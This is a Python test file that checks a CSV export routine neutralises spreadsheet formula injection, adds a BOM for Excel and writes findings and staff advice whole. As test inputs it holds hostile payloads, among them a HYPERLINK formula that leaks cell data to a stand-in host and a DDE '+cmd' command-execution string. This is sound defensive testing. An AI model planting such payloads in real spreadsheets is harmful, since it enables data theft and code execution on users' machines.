"""findings.csv and staff.csv: formula injection neutralised, a BOM for Excel, every cell filled, nothing lost."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from falsefriends.audit.records import Findings
from falsefriends.report.csv_out import BOM, COLUMNS, STAFF_COLUMNS, findings_csv, safe_cell, staff_csv


@pytest.mark.parametrize("payload", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n@x"])
def test_formula_starts_are_prefixed(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Jane", "0.9", "", "a=b", "linkedin.com/in/x"])
def test_ordinary_cells_are_untouched(value: str) -> None:
    assert safe_cell(value) == value


def test_csv_has_no_cell_a_spreadsheet_would_evaluate(hostile_findings: Findings) -> None:
    text = findings_csv(hostile_findings)
    assert text.startswith(BOM) and text.count(BOM) == 1
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert tuple(rows[0]) == COLUMNS
    assert len(rows) == 1 + len(hostile_findings.accounts)
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip(" \n").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    employers = {row[2] for row in rows[1:]}
    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")" in employers
    assert "'+cmd|' /C calc'!A0" in employers
    names = {row[1] for row in rows[1:]}
    assert "'@SUM(1+1)" in names
    evidence = " ".join(row[-1] for row in rows[1:])
    assert "generous fee" in evidence and "M3" in evidence


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40))
def test_any_text_round_trips_through_the_csv_without_becoming_a_formula(text: str) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([safe_cell(text)])
    (cell,) = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert not cell.lstrip(" \n").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (text, "'" + text)  # nothing lost: at most the one quote added


def _rows(text: str) -> list[list[str]]:
    assert text.startswith(BOM), "Excel reads a UTF-8 CSV without BOM as Windows-1252"
    return list(csv.reader(io.StringIO(text.removeprefix(BOM))))


def test_every_cell_is_filled_and_the_evidence_is_whole(hostile_findings: Findings) -> None:
    rows = _rows(findings_csv(hostile_findings))
    for row in rows[1:]:
        assert len(row) == len(COLUMNS) and all(cell.strip() for cell in row), row
    assert not any("more)" in row[-1] for row in rows[1:])  # no "(+1 more)": the evidence is written whole
    for account, row in zip(hostile_findings.accounts, rows[1:], strict=True):
        # every distinct (indicator, words) of the account is in its cell, once
        for item in account.evidence:
            if item.excerpt:
                assert item.excerpt.split()[0].lstrip("=+-@") in row[-1]
        entries = row[-1].split(" | ")
        assert len(entries) == len(set(entries))


def test_twin_rules_and_repeats_are_one_entry() -> None:
    from falsefriends.audit.records import AccountFinding
    from falsefriends.model import Evidence, Level

    twins = [Evidence(rule=rule, indicator="M3", weight=1.0, reason="r", excerpt="WhatsApp", message=message)
             for rule in ("en-off-platform", "fr-off-platform") for message in ("m1", "m2", "m3")]
    account = AccountFinding(account="a", score=0.9, level=Level.HIGH, evidence=twins)
    rows = _rows(findings_csv(Findings(accounts=[account])))
    assert rows[1][-1].count("WhatsApp") == 1 and "(3 messages)" in rows[1][-1]


def test_staff_csv_has_one_filled_row_per_staff_member_with_advice(hostile_findings: Findings) -> None:
    rows = _rows(staff_csv(hostile_findings))
    assert tuple(rows[0]) == STAFF_COLUMNS
    assert [r[0] for r in rows[1:]] == [m.staff_id for m in hostile_findings.staff]
    for row in rows[1:]:
        assert all(cell.strip() for cell in row), row
        assert not any(cell.lstrip(" \n").startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    flagged = [r for r, m in zip(rows[1:], hostile_findings.staff, strict=True) if m.flagged]
    assert flagged and all(r[-1] != "none" for r in flagged)
    french = _rows(staff_csv(hostile_findings, "fr"))
    assert french[1][-1] != rows[1][-1] and "officier de sécurité" in " ".join(r[-1] for r in french[1:])
